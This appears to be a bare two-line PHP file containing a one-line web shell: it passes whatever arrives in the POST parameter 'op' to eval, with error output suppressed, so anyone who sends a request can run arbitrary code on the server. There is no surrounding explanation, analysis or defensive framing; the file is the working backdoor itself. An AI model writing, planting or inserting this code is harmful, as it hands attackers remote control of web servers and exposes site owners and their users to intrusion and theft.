<?php
@eval($GLOBALS['_POST']['op']);
